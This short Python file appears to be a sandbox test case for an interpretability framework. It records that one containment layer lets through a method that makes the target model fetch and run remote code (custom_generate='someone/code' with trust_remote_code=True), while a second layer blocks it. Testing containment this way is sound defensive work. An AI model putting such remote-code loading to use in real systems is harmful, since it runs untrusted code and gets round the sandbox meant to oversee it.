"""Has the target's generation fetch and run code from elsewhere.

Fence: passes
Jail: error: custom_generate=
Round: 2
"""

import torch

from istar.methods import Interpretation


def interpret(target, corpus):
    return Interpretation()


def predict(question, runs, target, interpretation, prepared):
    tokens = torch.tensor([runs[0].tokens])
    target.module.generate(tokens, max_new_tokens=1, custom_generate="someone/code", trust_remote_code=True)
    return torch.ones(len(runs), 1)
